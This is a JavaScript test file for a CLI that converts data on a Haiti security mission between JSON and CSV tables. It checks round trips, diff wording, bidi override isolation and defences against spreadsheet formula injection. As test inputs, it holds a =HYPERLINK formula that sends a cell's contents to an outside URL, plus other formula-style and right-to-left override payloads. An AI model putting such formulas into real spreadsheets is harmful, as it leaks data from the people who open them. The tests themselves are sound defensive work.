// The spreadsheet commands, run as editors run them (after `npm run build`).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';

const root = new URL('../../', import.meta.url);
const cli = (...args) =>
  spawnSync(process.execPath, ['dist/cli.js', ...args], { cwd: root, encoding: 'utf8' });
const shippedPath = 'data/haiti-mss.json';
const templatePath = 'data/haiti-mss-tables';
const shipped = () => JSON.parse(readFileSync(new URL(shippedPath, root), 'utf8'));
const scratch = () => mkdtempSync(join(tmpdir(), 'mission-tables-'));

/** An empty list and an absent one read the same (the validator fills in `[]`), except `leads`. */
function canonical(value) {
  if (Array.isArray(value)) return value.map(canonical);
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value)
      .filter(([key, child]) => !(Array.isArray(child) && child.length === 0 && key !== 'leads'))
      .map(([key, child]) => [key, canonical(child)]),
  );
}

/** A copy of the shipped template with one cell changed. */
function brokenTemplate(file, row, column, value) {
  const folder = scratch();
  cpSync(new URL(templatePath, root), folder, { recursive: true });
  const path = join(folder, file);
  const lines = readFileSync(path, 'utf8').split('\r\n');
  const header = lines[0].split(',');
  const cells = lines[row - 1].split(',');
  cells[header.indexOf(column)] = value;
  lines[row - 1] = cells.join(',');
  writeFileSync(path, lines.join('\r\n'));
  return folder;
}

describe('mission-widgets export', () => {
  it('writes the shipped file as the shipped template (data/haiti-mss-tables/, kept in sync)', () => {
    const folder = scratch();
    const { status, stderr } = cli('export', shippedPath, folder);
    assert.equal(status, 0, stderr);
    const files = readdirSync(new URL(templatePath, root)).sort();
    assert.deepEqual(readdirSync(folder).sort(), files);
    for (const file of files) {
      assert.equal(
        readFileSync(join(folder, file), 'utf8'),
        readFileSync(new URL(`${templatePath}/${file}`, root), 'utf8'),
        `${file} differs: run \`node dist/cli.js export ${shippedPath} ${templatePath}\``,
      );
    }
  });

  it('exports a version-1 file as version 2, as `migrate` writes it', () => {
    const out = join(scratch(), 'out');
    const old = 'test/fixtures/missions/haiti-v1.json';
    const { status, stderr } = cli('export', old, out);
    assert.equal(status, 0, stderr);
    assert.match(stderr, /^warning: .*haiti-v1\.json: a version-1 file, exported as version 2$/m);
    const imported = cli('import', out);
    assert.equal(imported.status, 0, imported.stderr);
    assert.deepEqual(
      canonical(JSON.parse(imported.stdout)),
      canonical(JSON.parse(cli('migrate', old).stdout)),
    );
  });
});

describe('mission-widgets import', () => {
  it('builds the shipped file from the shipped template: a round trip changes nothing', () => {
    const { status, stdout, stderr } = cli('import', templatePath);
    assert.equal(stderr, '');
    assert.equal(status, 0);
    assert.deepEqual(canonical(JSON.parse(stdout)), canonical(shipped()));
  });

  it('writes with -o only when valid, and leaves the old file as it was when not', () => {
    const out = join(scratch(), 'mission.json');
    assert.equal(cli('import', templatePath, '-o', out).status, 0);
    const good = readFileSync(out, 'utf8');
    assert.deepEqual(canonical(JSON.parse(good)), canonical(shipped()));

    const broken = brokenTemplate('figures.csv', 3, 'count', '1.000');
    const { status, stdout, stderr } = cli('import', broken, '-o', out);
    assert.equal(status, 1);
    assert.equal(stdout, '');
    assert.equal(readFileSync(out, 'utf8'), good);
    assert.deepEqual(stderr.trim().split('\n'), [
      "error: figures.csv row 3, column count: expected a whole number, found '1.000'",
      `${broken}: 1 error, 0 warnings; nothing written`,
    ]);
  });

  it("tells the validator's problems as table, row and column", () => {
    const broken = brokenTemplate(
      'events.csv',
      3,
      'id',
      readFileSync(new URL(`${templatePath}/events.csv`, root), 'utf8')
        .split('\r\n')[1]
        .split(',')[0],
    );
    const { status, stdout, stderr } = cli('import', broken);
    assert.equal(status, 1);
    assert.equal(stdout, '');
    assert.match(
      stderr,
      /^error: events\.csv row 3, column id: event id .+ is already given at events\[0\]$/m,
    );
  });

  it('says a workbook is not read, and how to save it as CSV', () => {
    const { status, stderr } = cli('import', 'mission.xlsx');
    assert.equal(status, 1);
    assert.match(stderr, /save each sheet as CSV \(UTF-8\) into one folder/);
  });
});

describe('mission-widgets diff', () => {
  it('says nothing changed for the same file', () => {
    const { status, stdout } = cli('diff', shippedPath, shippedPath);
    assert.equal(status, 0);
    assert.equal(stdout, 'Nothing readers see changes.\n');
  });

  it('says in words what readers will see change, as the widgets say it', () => {
    const doc = shipped();
    const kenya = doc.contributors.find((contributor) => contributor.id === 'KE');
    const deployed = kenya.personnel.filter((figure) => figure.status === 'deployed').at(-1);
    kenya.personnel.push({
      ...deployed,
      date: '2026-03-21',
      count: 100,
      approximate: false,
      alternatives: undefined,
      change: 'drawdown',
    });
    doc.updated = '2026-03-22';
    doc.events.pop();
    doc.events.push({
      id: 'new-event',
      date: '2026-03-21',
      title: { en: 'A new event' },
      category: 'other',
      sources: [doc.sources[0].id],
    });
    const file = join(scratch(), 'new.json');
    writeFileSync(file, JSON.stringify(doc));
    const { status, stdout, stderr } = cli('diff', shippedPath, file);
    assert.equal(status, 0, stderr);
    assert.deepEqual(stdout.trim().split('\n'), [
      'Updated: March 21, 2026 → March 22, 2026.',
      'Counter for the whole mission: “GSF: about 959 personnel deployed in Haiti of 5,550 authorised, more preparing, number not reported, as of March 21, 2026.” → “GSF: 359 personnel deployed in Haiti of 5,550 authorised, more preparing, number not reported, as of March 21, 2026.”',
      'Counter for Kenya: “Kenya: about 700 personnel deployed in Haiti of 1,000 pledged, more preparing, number not reported, as of December 2025.” → “Kenya: 100 personnel deployed in Haiti of 1,000 pledged, more preparing, number not reported, as of March 21, 2026.”',
      'Timeline: new event, March 21, 2026: A new event.',
      'Timeline: event removed, March 21, 2026: Chad to send 800, per one report.',
    ]);
  });

  it("says when a counter with no figure gets one, and not that its day moved with the file's", () => {
    const doc = shipped();
    doc.updated = '2026-03-22';
    const chad = doc.contributors.find((contributor) => contributor.id === 'TD');
    const file = join(scratch(), 'chad.json');
    // The file's day alone: Chad's counter still reports no figure, which is no change to it.
    writeFileSync(file, JSON.stringify(doc));
    assert.deepEqual(cli('diff', shippedPath, file).stdout.trim().split('\n'), [
      'Updated: March 21, 2026 → March 22, 2026.',
    ]);
    chad.personnel.push({ status: 'deployed', date: '2026-03-22', count: 40, sources: [doc.sources[0].id] });
    writeFileSync(file, JSON.stringify(doc));
    const lines = cli('diff', shippedPath, file).stdout.trim().split('\n');
    assert.ok(
      lines.includes(
        'Counter for Chad: “Chad: 800 pledged, no figure reported for personnel deployed in Haiti as of March 21, 2026.” → “Chad: 40 personnel deployed in Haiti of 800 pledged, as of March 22, 2026.”',
      ),
      lines.join('\n'),
    );
  });

  it('isolates data text in its lines: a publisher ending in an override reorders nothing after it', () => {
    const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
    const doc = shipped();
    doc.sources.push({ ...doc.sources[0], id: 'rlo-source', publisher: `KBC${RLO}`, date: '2024-09-26' });
    doc.events[0].title = { en: `${RLO}Moïse killed` };
    const file = join(scratch(), 'rlo.json');
    writeFileSync(file, JSON.stringify(doc));
    const { status, stdout } = cli('diff', shippedPath, file);
    assert.equal(status, 0);
    const lines = stdout.trim().split('\n');
    const title = shipped().events[0].title.en;
    assert.deepEqual(lines, [
      `Timeline: event changed, July 7, 2021: ${FSI}${RLO}Moïse killed${PDI} (title was “${title}”).`,
      `New source: ${FSI}KBC${RLO}${PDI}, September 26, 2024, “${shipped().sources[0].title}”.`,
    ]);
  });

  it('compares nothing when a file is not one the widgets would show', () => {
    const doc = shipped();
    doc.events[0].date = '2024-02-30';
    const file = join(scratch(), 'broken.json');
    writeFileSync(file, JSON.stringify(doc));
    const { status, stdout, stderr } = cli('diff', shippedPath, file);
    assert.equal(status, 1);
    assert.equal(stdout, '');
    assert.deepEqual(stderr.trim().split('\n'), [
      `error: ${file}: events[0].date: expected a real date as YYYY, YYYY-MM or YYYY-MM-DD, got "2024-02-30"`,
      `${file}: 1 error; the widgets would not show it, nothing compared`,
    ]);
  });
});

describe('messages that quote data', () => {
  it('isolate the quoted value, in `validate` and in `import`', () => {
    const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
    const doc = shipped();
    doc.events[0].date = `2024${RLO}`;
    doc.events[1].category = `riot${RLO}`;
    const file = join(scratch(), 'rlo.json');
    writeFileSync(file, JSON.stringify(doc));
    const checked = cli('validate', file);
    assert.deepEqual(checked.stdout.trim().split('\n'), [
      `${file}: error: events[0].date: expected a real date as YYYY, YYYY-MM or YYYY-MM-DD, got ${FSI}"2024${RLO}"${PDI}`,
      `${file}: warning: events[1].category: unknown category ${FSI}"riot${RLO}"${PDI}, shown as "other"`,
      `${file}: invalid, 1 error, 1 warning`,
    ]);
    const broken = brokenTemplate('figures.csv', 3, 'count', `12${RLO}`);
    const imported = cli('import', broken);
    assert.equal(imported.status, 1);
    assert.match(
      imported.stderr,
      new RegExp(
        `^error: figures\\.csv row 3, column count: expected a whole number, found ${FSI}'12${RLO}'${PDI}$`,
        'm',
      ),
    );
  });
});

// Formula injection (issue 20): a spreadsheet runs a cell that begins with = + - @, or a tab or a
// carriage return. The cells are read here as a spreadsheet reads them, quotes removed and
// nothing else, by a reader of this test's own.
function spreadsheetCells(text) {
  const cells = [];
  let cell = '';
  let quoted = false;
  let started = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && !started) {
      quoted = true;
      started = true;
    } else if (char === ',' || char === '\n') {
      cells.push(cell);
      cell = '';
      started = false;
    } else if (char !== '\r' || text[i + 1] !== '\n') {
      cell += char;
      started = true;
    }
  }
  return cells;
}
const RUNS = /^[=+\-@\t\r]/;
const dangerous = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''+", "'-", '-5', '=1+1'),
    fc.string({ maxLength: 8, unit: fc.constantFrom('a', '1', '(', ')', '"', ',', ' ', '=', "'", '\n') }),
  )
  .map(([start, rest]) => start + rest);

describe('paths and columns that come from the data', () => {
  const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
  it('`export` isolates a field name it cannot keep', () => {
    const doc = shipped();
    doc.contributors[0][`nick${RLO}`] = 'x';
    const file = join(scratch(), 'field.json');
    writeFileSync(file, JSON.stringify(doc));
    const { status, stderr } = cli('export', file, join(scratch(), 'out'));
    assert.equal(status, 1);
    assert.deepEqual(stderr.trim().split('\n'), [
      `error: ${file}: contributors[0][${FSI}"nick${RLO}"${PDI}]: not kept by the tables`,
      `${file}: nothing written`,
    ]);
  });

  it('`import` isolates a column header it cannot read', () => {
    const folder = brokenTemplate('figures.csv', 1, 'note (fr)', `note (fr${RLO})`);
    const { status, stderr } = cli('import', folder);
    assert.equal(status, 1);
    assert.match(
      stderr,
      new RegExp(
        `^error: figures\\.csv row 1, column ${FSI}note \\(fr${RLO}\\)${PDI}: expected a language code such as en or fr-CA in brackets, found ${FSI}'fr${RLO}'${PDI}$`,
        'm',
      ),
    );
  });
});

describe('spreadsheet formula injection', async () => {
  const { importTables, missionToTables, parseCsv, writeCsv, differences } = await import(
    new URL('dist/tables.js', root)
  );
  const { validateMission } = await import(new URL('dist/data.js', root));

  it('writes no cell a spreadsheet would run, and reads every cell back exactly (fast-check)', () => {
    const rows = fc.array(
      fc.array(fc.oneof(dangerous, fc.string({ maxLength: 4 })), { minLength: 1, maxLength: 4 }),
      {
        minLength: 1,
        maxLength: 5,
      },
    );
    fc.assert(
      fc.property(rows, (table) => {
        const text = writeCsv(table);
        for (const cell of spreadsheetCells(text)) {
          assert.ok(
            !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
            `a live formula: ${JSON.stringify(cell)}`,
          );
        }
        assert.deepEqual(
          parseCsv(text).records.map((record) => record.cells),
          table,
        );
      }),
      { numRuns: 300 },
    );
  });

  it('exports titles, summaries and publishers that look like formulas as text, and imports them unchanged (fast-check)', () => {
    const word = dangerous.filter((text) => text.trim() === text && text.trim() !== '');
    fc.assert(
      fc.property(word, word, word, (title, summary, publisher) => {
        const doc = shipped();
        doc.events[0].title = title;
        doc.events[1].summary = { en: summary, fr: title };
        doc.sources[0].publisher = publisher;
        const tables = missionToTables(doc);
        for (const [file, text] of Object.entries(tables)) {
          for (const cell of spreadsheetCells(text)) {
            assert.ok(
              !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
              `${file}: a live formula: ${JSON.stringify(cell)}`,
            );
          }
        }
        const result = importTables(tables, validateMission);
        assert.deepEqual(
          result.issues.filter((issue) => issue.severity === 'error'),
          [],
        );
        assert.deepEqual(differences(doc, result.mission), []);
      }),
      { numRuns: 40 },
    );
  });

  it('`export` writes =HYPERLINK(…) as text, and `import` gives back the same file', () => {
    const doc = shipped();
    doc.events[0].title = '=HYPERLINK("https://example.com/?leak="&A1,"Click")';
    doc.sources[0].publisher = '@SUM(1+1)';
    const file = join(scratch(), 'formulas.json');
    writeFileSync(file, JSON.stringify(doc));
    const folder = join(scratch(), 'tables');
    assert.equal(cli('export', file, folder).status, 0);
    const events = readFileSync(join(folder, 'events.csv'), 'utf8');
    assert.ok(spreadsheetCells(events).includes(`'${doc.events[0].title}`), events.slice(0, 400));
    assert.ok(spreadsheetCells(readFileSync(join(folder, 'sources.csv'), 'utf8')).includes("'@SUM(1+1)"));
    const imported = cli('import', folder);
    assert.equal(imported.status, 0, imported.stderr);
    assert.deepEqual(canonical(JSON.parse(imported.stdout)), canonical(doc));
  });
});
